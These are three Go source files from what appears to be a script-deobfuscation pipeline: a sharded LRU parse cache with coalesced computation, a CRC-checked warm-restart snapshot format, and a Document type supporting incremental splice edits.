// caller blocks on another goroutine's in-flight computation.
func (e *cacheEntry) artifact(slot *artifactSlot, compute func() (any, error), onWait func()) (val any, err error, hit, warm bool) {
	for {
		e.mu.Lock()
		switch slot.state {
		case slotDone:
			val, err, warm = slot.val, slot.err, slot.warm
			e.mu.Unlock()
			return val, err, true, warm
		case slotEmpty:
			slot.state = slotComputing
			slot.done = make(chan struct{})
			e.mu.Unlock()
			val, err = e.lead(slot, compute)
			return val, err, false, false
		default: // slotComputing
			ch := slot.done
			e.mu.Unlock()
			if onWait != nil {
				onWait()
			}
			<-ch
			// Loop: the leader published a result (done), or aborted
			// (empty again — this waiter retries as the new leader).
		}
	}
}

// lead runs the computation as the slot's leader and publishes the
// result. If compute panics, the slot is reset to empty — never marked
// done with a half-written value — and the panic propagates to the
// leader alone: its own run's recover turns it into that run's
// taxonomy error, while waiters retry rather than being poisoned by
// someone else's envelope violation.
func (e *cacheEntry) lead(slot *artifactSlot, compute func() (any, error)) (val any, err error) {
	completed := false
	defer func() {
		e.mu.Lock()
		if completed {
			slot.state = slotDone
			slot.val, slot.err = val, err
		} else {
			slot.state = slotEmpty
		}
		ch := slot.done
		slot.done = nil
		e.mu.Unlock()
		close(ch)
	}()
	val, err = compute()
	completed = true
	return val, err
}

// publish installs an externally synthesized artifact into an empty
// slot. It never overwrites a live or completed computation: splice
// synthesis and a concurrent fresh parse of the same text must agree
// (both describe the same bytes), so first-writer-wins is safe and
// keeps the singleflight invariants — a slotComputing leader still owns
// its done channel. Reports whether the value was installed.
func (e *cacheEntry) publish(slot *artifactSlot, val any) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	if slot.state != slotEmpty {
		return false
	}
	slot.state = slotDone
	slot.val, slot.err = val, nil
	return true
}

// preload derives the slot's artifact eagerly (snapshot load path) and
// marks it warm. It never overwrites a live computation: if another
// goroutine is computing or has computed, preload leaves the slot
// alone and reports false.
func (e *cacheEntry) preload(slot *artifactSlot, compute func() (any, error)) bool {
	e.mu.Lock()
	if slot.state != slotEmpty {
		e.mu.Unlock()
		return false
	}
	slot.state = slotComputing
	slot.done = make(chan struct{})
	e.mu.Unlock()
	var val any
	var err error
	completed := false
	defer func() {
		e.mu.Lock()
		if completed {
			slot.state = slotDone
			slot.val, slot.err = val, err
			slot.warm = true
		} else {
			slot.state = slotEmpty
		}
		ch := slot.done
		slot.done = nil
		e.mu.Unlock()
		close(ch)
	}()
	val, err = compute()
	completed = true
	return true
}

// cacheShard is one independent stripe: its own lock, hash buckets,
// LRU list, byte budget and counters. Entries never migrate between
// shards (the content hash pins them), so every per-text invariant —
// memoize-once, per-language stats, LRU recency — holds per shard.
type cacheShard struct {
	mu         sync.Mutex
	maxEntries int
	maxBytes   int64
	bytes      int64
	buckets    map[uint64][]*cacheEntry
	lru        *list.List // front = most recently used

	hits, misses, evictions int64
	perLang                 map[string]*LangCacheStats
}

func newCacheShard(maxEntries int, maxBytes int64) *cacheShard {
	return &cacheShard{
		maxEntries: maxEntries,
		maxBytes:   maxBytes,
		buckets:    make(map[uint64][]*cacheEntry),
		lru:        list.New(),
		perLang:    make(map[string]*LangCacheStats),
	}
}

// Cache is a bounded, thread-safe memoization of tokenize/parse results
// keyed by content hash over (language, text) — verified against both,
// so hash collisions degrade to misses, never wrong answers, and the
// same bytes cached for one language are invisible to another. One
// Cache serves one deobfuscation run, or — in batch and server mode —
// is shared by all workers so identical layers across scripts parse
// once per language.
//
// Internally the cache is striped across power-of-two shards selected
// by content hash, each with per-shard LRU eviction, and artifact
// computation is singleflight-coalesced per entry; see the package
// comment.
type Cache struct {
	shards    []*cacheShard
	shardMask uint64

	coalescedWaits atomic.Int64
	warmed         atomic.Int64
	warmHits       atomic.Int64
}

// NewCache returns a Cache bounded by maxEntries texts and maxBytes of
// cached source, striped across the default GOMAXPROCS-scaled shard
// count. Non-positive arguments select the defaults.
func NewCache(maxEntries int, maxBytes int64) *Cache {
	return NewCacheSharded(maxEntries, maxBytes, 0)
}

// NewCacheSharded is NewCache with an explicit shard count: rounded up
// to a power of two, capped at 256, and scaled down until each shard's
// slice of the entry/byte budget stays useful. shards <= 0 selects the
// GOMAXPROCS-scaled default; shards == 1 reproduces the historical
// single-mutex cache (the benchmark baseline).
func NewCacheSharded(maxEntries int, maxBytes int64, shards int) *Cache {
	if maxEntries <= 0 {
		maxEntries = DefaultMaxEntries
	}
	if maxBytes <= 0 {
		maxBytes = DefaultMaxBytes
	}
	n := shardCount(shards, maxEntries, maxBytes)
	c := &Cache{
		shards:    make([]*cacheShard, n),
		shardMask: uint64(n - 1),
	}
	perEntries := maxEntries / n
	if perEntries < 1 {
		perEntries = 1
	}
	perBytes := maxBytes / int64(n)
	if perBytes < 1 {
		perBytes = 1
	}
	for i := range c.shards {
		c.shards[i] = newCacheShard(perEntries, perBytes)
	}
	return c
}

// shard returns the stripe owning key.
func (c *Cache) shard(key uint64) *cacheShard { return c.shards[key&c.shardMask] }

// ShardCount reports the number of lock stripes.
func (c *Cache) ShardCount() int { return len(c.shards) }

// lookup returns the entry for (lang, text), creating (and bounding) it
// as needed, and bumps it to most-recently-used. A nil return means the
// text is too large to cache.
func (c *Cache) lookup(lang, text string, key uint64) *cacheEntry {
	if len(text) > maxCacheableText {
		return nil
	}
	sh := c.shard(key)
	sh.mu.Lock()
	defer sh.mu.Unlock()
	for _, e := range sh.buckets[key] {
		if e.lang == lang && e.text == text {
			sh.lru.MoveToFront(e.elem)
			return e
		}
	}
	e := &cacheEntry{lang: lang, text: text}
	sh.buckets[key] = append(sh.buckets[key], e)
	e.elem = sh.lru.PushFront(e)
	sh.bytes += int64(len(text))
	for (sh.lru.Len() > sh.maxEntries || sh.bytes > sh.maxBytes) && sh.lru.Len() > 1 {
		sh.evictOldestLocked()
	}
	return e
}

// evictOldestLocked drops the least-recently-used entry. Callers hold
// sh.mu.
func (sh *cacheShard) evictOldestLocked() {
	back := sh.lru.Back()
	if back == nil {
		return
	}
	victim := sh.lru.Remove(back).(*cacheEntry)
	key := hashKey(victim.lang, victim.text)
	bucket := sh.buckets[key]
	for i, e := range bucket {
		if e == victim {
			sh.buckets[key] = append(bucket[:i], bucket[i+1:]...)
			break
		}
	}
	if len(sh.buckets[key]) == 0 {
		delete(sh.buckets, key)
	}
	sh.bytes -= int64(len(victim.text))
	sh.evictions++
}

// record folds a hit/miss observation into the owning shard's global
// and per-language counters.
func (c *Cache) record(lang string, key uint64, hit bool) {
	sh := c.shard(key)
	sh.mu.Lock()
	ls := sh.perLang[lang]
	if ls == nil {
		ls = &LangCacheStats{}
		sh.perLang[lang] = ls
	}
	if hit {
		sh.hits++
		ls.Hits++
	} else {
		sh.misses++
		ls.Misses++
	}
	sh.mu.Unlock()
}

// Tokenize returns the (possibly memoized) token artifact of src under
// language l. The returned artifact is shared: callers must not mutate
// it.
func (c *Cache) Tokenize(l Lang, src string) (any, error) {
	toks, err, _ := c.tokenize(l, src)
	return toks, err
}

func (c *Cache) tokenize(l Lang, src string) (any, error, bool) {
	if l == nil {
		return nil, ErrNoLang, false
	}
	lang := l.Name()
	key := hashKey(lang, src)
	e := c.lookup(lang, src, key)
	if e == nil {
		toks, err := l.Tokenize(src)
		c.record(lang, key, false)
		return toks, err, false
	}
	toks, err, hit, warm := e.artifact(&e.tok,
		func() (any, error) { return l.Tokenize(e.text) },
		func() { c.coalescedWaits.Add(1) })
	c.record(lang, key, hit)
	if hit && warm {
		c.warmHits.Add(1)
	}
	return toks, err, hit
}

// Parse returns the (possibly memoized) AST artifact of src under
// language l. Parse errors are memoized too — a failed candidate
// rejected once by a validity check is never re-parsed. The returned
// AST is shared: callers must treat it as immutable (every consumer in
// this codebase walks ASTs read-only).
func (c *Cache) Parse(l Lang, src string) (any, error) {
	sb, err, _ := c.parse(l, src)
	return sb, err
}

func (c *Cache) parse(l Lang, src string) (any, error, bool) {
	if l == nil {
		return nil, ErrNoLang, false
	}
	lang := l.Name()
	key := hashKey(lang, src)
	e := c.lookup(lang, src, key)
	if e == nil {
		sb, err := l.Parse(src)
		c.record(lang, key, false)
		return sb, err, false
	}
	sb, err, hit, warm := e.artifact(&e.ast,
		func() (any, error) { return l.Parse(e.text) },
		func() { c.coalescedWaits.Add(1) })
	c.record(lang, key, hit)
	if hit && warm {
		c.warmHits.Add(1)
	}
	return sb, err, hit
}

// Valid reports whether src parses under language l, through the cache.
func (c *Cache) Valid(l Lang, src string) bool {
	_, err := c.Parse(l, src)
	return err == nil
}

// Preload inserts text into the cache and derives both artifacts
// eagerly, marking them warm — the snapshot-load path. Unlike
// Tokenize/Parse it records neither hits nor misses (a restart is not
// traffic), so /statsz hit rates reflect only real requests. It
// reports whether at least one artifact was derived here (false when
// the text is oversize or already live).
func (c *Cache) Preload(l Lang, text string) bool {
	if l == nil || len(text) > maxCacheableText {
		return false
	}
	lang := l.Name()
	e := c.lookup(lang, text, hashKey(lang, text))
	if e == nil {
		return false
	}
	tok := e.preload(&e.tok, func() (any, error) { return l.Tokenize(e.text) })
	ast := e.preload(&e.ast, func() (any, error) { return l.Parse(e.text) })
	if tok || ast {
		c.warmed.Add(1)
		return true
	}
	return false
}

// Insert publishes synthesized artifacts for (l, text) without running
// the language's tokenizer or parser — the incremental-splice path,
// where the frontend assembles the new text's token stream and AST from
// already-validated slices and shifted reuse of the old artifacts.
// Artifacts must be exactly what Tokenize/Parse would produce for text;
// the cache trusts the frontend on this (the splice fuzz suite checks
// it against full-reparse ground truth). Either artifact may be nil to
// skip that slot. Existing or in-flight artifacts are never overwritten,
// and no hits or misses are recorded (synthesis is not traffic).
// Reports whether at least one artifact was installed (false also for
// oversize texts, which are never cached).
func (c *Cache) Insert(l Lang, text string, tokens, ast any) bool {
	if l == nil {
		return false
	}
	lang := l.Name()
	e := c.lookup(lang, text, hashKey(lang, text))
	if e == nil {
		return false
	}
	installed := false
	if tokens != nil && e.publish(&e.tok, tokens) {
		installed = true
	}
	if ast != nil && e.publish(&e.ast, ast) {
		installed = true
	}
	return installed
}

// SnapshotEntry is one cached source text in a warm-restart snapshot:
// the language namespace plus the exact text. Artifacts are never
// serialized — they are re-derived on load, which keeps the format
// frontend-agnostic and immune to artifact-layout drift.
type SnapshotEntry struct {
	Lang string
	Text string
}

// SnapshotTexts returns every cached (language, text) pair, oldest
// first per shard, for warm-restart persistence. Re-inserting in the
// returned order approximately reproduces the LRU recency order.
func (c *Cache) SnapshotTexts() []SnapshotEntry {
	var out []SnapshotEntry
	for _, sh := range c.shards {
		sh.mu.Lock()
		for el := sh.lru.Back(); el != nil; el = el.Prev() {
			e := el.Value.(*cacheEntry)
			out = append(out, SnapshotEntry{Lang: e.lang, Text: e.text})
		}
		sh.mu.Unlock()
	}
	return out
}

// Stats snapshots the cache counters, summed across shards.
func (c *Cache) Stats() CacheStats {
	st := CacheStats{
		Shards:         len(c.shards),
		CoalescedWaits: c.coalescedWaits.Load(),
		Warmed:         c.warmed.Load(),
		WarmHits:       c.warmHits.Load(),
	}
	for _, sh := range c.shards {
		sh.mu.Lock()
		st.Hits += sh.hits
		st.Misses += sh.misses
		st.Evictions += sh.evictions
		st.Entries += sh.lru.Len()
		st.Bytes += sh.bytes
		sh.mu.Unlock()
	}
	return st
}

// ShardOccupancy reports the current entry count of every shard, in
// shard order — the /statsz surface for spotting skewed stripes.
func (c *Cache) ShardOccupancy() []int {
	out := make([]int, len(c.shards))
	for i, sh := range c.shards {
		sh.mu.Lock()
		out[i] = sh.lru.Len()
		sh.mu.Unlock()
	}
	return out
}

// LangStats snapshots the per-language hit/miss counters, summed
// across shards. Because every (language, text) key lives in exactly
// one shard and each observation lands in that shard's counter, the
// summed per-language hit rates are exactly the single-mutex
// semantics.
func (c *Cache) LangStats() map[string]LangCacheStats {
	out := make(map[string]LangCacheStats)
	for _, sh := range c.shards {
		sh.mu.Lock()
		for lang, ls := range sh.perLang {
			agg := out[lang]
			agg.Hits += ls.Hits
			agg.Misses += ls.Misses
			out[lang] = agg
		}
		sh.mu.Unlock()
	}
	return out
}

// Entries reports the number of distinct cached (language, text) pairs.
func (c *Cache) Entries() int {
	n := 0
	for _, sh := range c.shards {
		sh.mu.Lock()
		n += sh.lru.Len()
		sh.mu.Unlock()
	}
	return n
}

// View returns a per-run accounting view of the cache bound to one
// language. Views forward every request to the shared Cache but keep
// their own hit/miss counters, so per-pass trace attribution stays
// exact even when many batch workers share one Cache. A View is not
// safe for concurrent use; each run owns its own.
func (c *Cache) View(l Lang) *View {
	return &View{c: c, lang: l}
}

// View is a single-run, single-language window onto a shared Cache.
// See Cache.View.
type View struct {
	c    *Cache
	lang Lang
	// Hits and Misses count this view's requests only.
	Hits, Misses int64
}

// Cache returns the underlying shared cache.
func (v *View) Cache() *Cache { return v.c }

// Fork returns a fresh view onto the same cache and language with
// zeroed counters. Parallel piece workers each fork the run's view —
// View counters are not concurrency-safe — and the caller merges the
// forks' hits/misses back after the workers join.
func (v *View) Fork() *View { return &View{c: v.c, lang: v.lang} }

// Lang returns the language this view is bound to.
func (v *View) Lang() Lang { return v.lang }

func (v *View) observe(hit bool) {
	if hit {
		v.Hits++
	} else {
		v.Misses++
	}
}

// Tokenize is Cache.Tokenize with per-view accounting.
func (v *View) Tokenize(src string) (any, error) {
	toks, err, hit := v.c.tokenize(v.lang, src)
	v.observe(hit)
	return toks, err
}

// Parse is Cache.Parse with per-view accounting.
func (v *View) Parse(src string) (any, error) {
	sb, err, hit := v.c.parse(v.lang, src)
	v.observe(hit)
	return sb, err
}

// Valid reports whether src parses, with per-view accounting.
func (v *View) Valid(src string) bool {
	_, err := v.Parse(src)
	return err == nil
}

// Insert is Cache.Insert under this view's language. Like the Cache
// method it records no hits or misses; subsequent Tokenize/Parse calls
// on the same text count as ordinary hits.
func (v *View) Insert(text string, tokens, ast any) bool {
	return v.c.Insert(v.lang, text, tokens, ast)
}

// defaultCache backs package-level conveniences (facade ValidSyntax):
// a process-wide bounded cache so repeated validity checks over the
// same scripts — corpus preprocessing, experiment funnels — parse once.
var defaultCache = NewCache(0, 0)

// DefaultCache returns the process-wide shared cache.
func DefaultCache() *Cache { return defaultCache }
