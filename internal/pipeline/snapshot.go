package pipeline

// Warm-restart snapshot wire format.
//
// A snapshot persists only lang-namespaced *source texts* — never
// tokens, ASTs or interpreter values. Artifacts are re-derived by the
// owning frontend at load time, which buys three properties at once:
// the format is frontend-agnostic (no per-language serializers to
// version), it survives artifact-layout changes across deploys (a new
// parser simply re-derives), and a corrupted snapshot can never inject
// a malformed artifact — the worst case is a cold start.
//
// Layout (all integers little-endian):
//
//	magic    [8]byte  "IDOBSNP1"
//	version  uint32   currently 1
//	nParse   uint32   parse-cache record count
//	nEval    uint32   eval-cache record count
//	records  nParse+nEval × { langLen uint32, lang, textLen uint32, text }
//	crc      uint32   IEEE CRC-32 of everything above
//
// Decoding is defensive: counts and lengths are capped, every read is
// length-checked, and the CRC must match. Any violation returns
// ErrSnapshotCorrupt and the caller starts cold.

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
)

// snapshotMagic identifies a cache snapshot file; the trailing '1' is
// a coarse format generation alongside the explicit version field.
var snapshotMagic = [8]byte{'I', 'D', 'O', 'B', 'S', 'N', 'P', '1'}

const (
	// snapshotVersion is the current wire version.
	snapshotVersion = 1
	// snapshotMaxRecords caps each section's record count before any
	// allocation, so a corrupt count cannot balloon memory.
	snapshotMaxRecords = 1 << 20
	// snapshotMaxLangLen caps a record's language-name length.
	snapshotMaxLangLen = 256
	// snapshotMaxTextLen caps a record's text length (matches the
	// largest text either cache would retain).
	snapshotMaxTextLen = maxCacheableText
)

// ErrSnapshotCorrupt reports a snapshot that failed structural or
// checksum validation. Loaders treat it (and any other decode error)
// as "no snapshot": start cold, never crash.
var ErrSnapshotCorrupt = errors.New("pipeline: cache snapshot corrupt")

// SnapshotData is the decoded content of a warm-restart snapshot:
// parse-cache texts and eval-cache snippets, each namespaced by
// frontend name.
type SnapshotData struct {
	Parse []SnapshotEntry
	Eval  []SnapshotEntry
}

// crcWriter folds everything written through it into a running CRC-32
// while forwarding to the underlying writer.
type crcWriter struct {
	w   io.Writer
	crc uint32
}

func (cw *crcWriter) Write(p []byte) (int, error) {
	n, err := cw.w.Write(p)
	cw.crc = crc32.Update(cw.crc, crc32.IEEETable, p[:n])
	return n, err
}

// EncodeSnapshot writes data to w in the snapshot wire format.
func EncodeSnapshot(w io.Writer, data SnapshotData) error {
	if len(data.Parse) > snapshotMaxRecords || len(data.Eval) > snapshotMaxRecords {
		return fmt.Errorf("pipeline: snapshot too large (%d parse / %d eval records)",
			len(data.Parse), len(data.Eval))
	}
	bw := bufio.NewWriter(w)
	cw := &crcWriter{w: bw}
	if _, err := cw.Write(snapshotMagic[:]); err != nil {
		return err
	}
	var u32 [4]byte
	writeU32 := func(v uint32) error {
		binary.LittleEndian.PutUint32(u32[:], v)
		_, err := cw.Write(u32[:])
		return err
	}
	if err := writeU32(snapshotVersion); err != nil {
		return err
	}
	if err := writeU32(uint32(len(data.Parse))); err != nil {
		return err
	}
	if err := writeU32(uint32(len(data.Eval))); err != nil {
		return err
	}
	writeRecord := func(e SnapshotEntry) error {
		if len(e.Lang) > snapshotMaxLangLen || len(e.Text) > snapshotMaxTextLen {
			return fmt.Errorf("pipeline: snapshot record exceeds caps (lang %d, text %d bytes)",
				len(e.Lang), len(e.Text))
		}
		if err := writeU32(uint32(len(e.Lang))); err != nil {
			return err
		}
		if _, err := io.WriteString(cw, e.Lang); err != nil {
			return err
		}
		if err := writeU32(uint32(len(e.Text))); err != nil {
			return err
		}
		_, err := io.WriteString(cw, e.Text)
		return err
	}
	for _, e := range data.Parse {
		if err := writeRecord(e); err != nil {
			return err
		}
	}
	for _, e := range data.Eval {
		if err := writeRecord(e); err != nil {
			return err
		}
	}
	// The trailer CRC covers everything before it; write it to the
	// buffered writer directly so it is excluded from its own checksum.
	binary.LittleEndian.PutUint32(u32[:], cw.crc)
	if _, err := bw.Write(u32[:]); err != nil {
		return err
	}
	return bw.Flush()
}

// crcReader folds everything read through it into a running CRC-32.
type crcReader struct {
	r   io.Reader
	crc uint32
}

func (cr *crcReader) Read(p []byte) (int, error) {
	n, err := cr.r.Read(p)
	cr.crc = crc32.Update(cr.crc, crc32.IEEETable, p[:n])
	return n, err
}

// DecodeSnapshot reads a snapshot from r, validating structure, caps
// and checksum. Any malformation — short file, bad magic, unsupported
// version, oversize counts or lengths, trailing garbage, CRC mismatch
// — yields ErrSnapshotCorrupt (wrapped with detail).
func DecodeSnapshot(r io.Reader) (SnapshotData, error) {
	cr := &crcReader{r: bufio.NewReader(r)}
	corrupt := func(format string, args ...any) (SnapshotData, error) {
		return SnapshotData{}, fmt.Errorf("%w: %s", ErrSnapshotCorrupt, fmt.Sprintf(format, args...))
	}
	var magic [8]byte
	if _, err := io.ReadFull(cr, magic[:]); err != nil {
		return corrupt("short magic: %v", err)
	}
	if magic != snapshotMagic {
		return corrupt("bad magic %q", magic[:])
	}
	var u32 [4]byte
	readU32 := func() (uint32, error) {
		if _, err := io.ReadFull(cr, u32[:]); err != nil {
			return 0, err
		}
		return binary.LittleEndian.Uint32(u32[:]), nil
	}
	version, err := readU32()
	if err != nil {
		return corrupt("short version: %v", err)
	}
	if version != snapshotVersion {
		return corrupt("unsupported version %d", version)
	}
	nParse, err := readU32()
	if err != nil {
		return corrupt("short parse count: %v", err)
	}
	nEval, err := readU32()
	if err != nil {
		return corrupt("short eval count: %v", err)
	}
	if nParse > snapshotMaxRecords || nEval > snapshotMaxRecords {
		return corrupt("record counts %d/%d exceed cap", nParse, nEval)
	}
	readRecord := func() (SnapshotEntry, error) {
		langLen, err := readU32()
		if err != nil {
			return SnapshotEntry{}, fmt.Errorf("short lang length: %w", err)
		}
		if langLen > snapshotMaxLangLen {
			return SnapshotEntry{}, fmt.Errorf("lang length %d exceeds cap", langLen)
		}
		lang := make([]byte, langLen)
		if _, err := io.ReadFull(cr, lang); err != nil {
			return SnapshotEntry{}, fmt.Errorf("short lang: %w", err)
		}
		textLen, err := readU32()
		if err != nil {
			return SnapshotEntry{}, fmt.Errorf("short text length: %w", err)
		}
		if textLen > snapshotMaxTextLen {
			return SnapshotEntry{}, fmt.Errorf("text length %d exceeds cap", textLen)
		}
		text := make([]byte, textLen)
		if _, err := io.ReadFull(cr, text); err != nil {
			return SnapshotEntry{}, fmt.Errorf("short text: %w", err)
		}
		return SnapshotEntry{Lang: string(lang), Text: string(text)}, nil
	}
	data := SnapshotData{}
	if nParse > 0 {
		data.Parse = make([]SnapshotEntry, 0, min(int(nParse), 4096))
	}
	for i := uint32(0); i < nParse; i++ {
		e, err := readRecord()
		if err != nil {
			return corrupt("parse record %d: %v", i, err)
		}
		data.Parse = append(data.Parse, e)
	}
	if nEval > 0 {
		data.Eval = make([]SnapshotEntry, 0, min(int(nEval), 4096))
	}
	for i := uint32(0); i < nEval; i++ {
		e, err := readRecord()
		if err != nil {
			return corrupt("eval record %d: %v", i, err)
		}
		data.Eval = append(data.Eval, e)
	}
	// The stored CRC covers everything read so far; read it raw (not
	// through the CRC reader) and require an exact end-of-file after.
	payloadCRC := cr.crc
	if _, err := io.ReadFull(cr.r, u32[:]); err != nil {
		return corrupt("short checksum: %v", err)
	}
	if got := binary.LittleEndian.Uint32(u32[:]); got != payloadCRC {
		return corrupt("checksum mismatch: stored %08x, computed %08x", got, payloadCRC)
	}
	var one [1]byte
	if n, _ := cr.r.Read(one[:]); n != 0 {
		return corrupt("trailing garbage after checksum")
	}
	return data, nil
}
