package pipeline

// Document owns one script's source text as it flows through the
// passes. Its token stream and AST are not stored on the Document
// itself but memoized in the run's parse cache keyed by (language,
// content), so a pass that rewrites the text and then reverts gets the
// original artifacts back for free, and two Documents holding
// identical text (e.g. an unwrapped payload equal to a prior layer)
// share one parse.
//
// Artifacts are opaque `any` values produced by the view's Lang; the
// owning frontend asserts them back to its concrete token-stream and
// AST types.
//
// Invariants:
//   - Text is the single source of truth; AST/Tokens always describe
//     the current Text (they are re-derived — or re-fetched from cache —
//     after every SetText).
//   - Cached artifacts are immutable: every consumer walks them
//     read-only. Extent offsets in a cached AST are valid against the
//     exact text that produced it, which the cache guarantees by keying
//     on content.
//   - A Document is confined to one goroutine; the cache behind it is
//     safe to share.
type Document struct {
	view *View
	text string
}

// NewDocument returns a Document over text drawing from the given
// cache view (which carries the language).
func NewDocument(text string, view *View) *Document {
	return &Document{view: view, text: text}
}

// Text returns the current source text.
func (d *Document) Text() string { return d.text }

// Len returns the current source length in bytes.
func (d *Document) Len() int { return len(d.text) }

// SetText replaces the source text. Artifacts for the new text are
// fetched lazily on the next AST/Tokens call.
func (d *Document) SetText(text string) { d.text = text }

// AST returns the memoized parse artifact of the current text.
func (d *Document) AST() (any, error) {
	if d.view == nil {
		return nil, ErrNoLang
	}
	return d.view.Parse(d.text)
}

// Tokens returns the memoized token artifact of the current text.
func (d *Document) Tokens() (any, error) {
	if d.view == nil {
		return nil, ErrNoLang
	}
	return d.view.Tokenize(d.text)
}

// Valid reports whether the current text parses.
func (d *Document) Valid() bool {
	if d.view == nil {
		return false
	}
	return d.view.Valid(d.text)
}

// View returns the cache view this Document draws from.
func (d *Document) View() *View { return d.view }

// Fork returns a new Document over different text sharing this
// Document's cache view — used for nested payload layers, which want
// the same amortization pool (and language) as their parent.
func (d *Document) Fork(text string) *Document {
	return &Document{view: d.view, text: text}
}

// Edit is one replacement in a batched splice: the half-open byte span
// [Start, End) of the current text is replaced by New. A batch of
// edits must be non-overlapping; Document.Splice sorts them by Start.
type Edit struct {
	Start, End int
	New        string
}

// Splicer is the optional Lang capability behind Document.Splice: an
// incremental reparse that applies a batch of edits to text, reparsing
// only the enclosing statement extents, and publishes the synthesized
// token stream and AST for the resulting text through the view's cache
// (View.Insert) so downstream consumers get them as cache hits. It
// returns ok=false — without publishing anything — when the edit shape
// defeats incremental synthesis (edits crossing statement boundaries,
// a slice that no longer parses, ...); the caller then falls back to a
// full re-render + reparse.
type Splicer interface {
	Splice(view *View, text string, edits []Edit) (newText string, ok bool)
}

// Splice applies a batch of non-overlapping edits as one incremental
// splice: the view's language patches the text and synthesizes the new
// artifacts from slice reparses plus offset-shifted reuse of the old
// ones, so the whole batch costs statement-extent parses instead of a
// full-document reparse per replacement. Reports false — leaving the
// Document untouched — when the language has no Splicer or the splice
// fails validation; the caller decides how to fall back.
func (d *Document) Splice(edits []Edit) bool {
	if d.view == nil || len(edits) == 0 {
		return false
	}
	sp, ok := d.view.Lang().(Splicer)
	if !ok {
		return false
	}
	newText, ok := sp.Splice(d.view, d.text, edits)
	if !ok {
		return false
	}
	d.text = newText
	return true
}
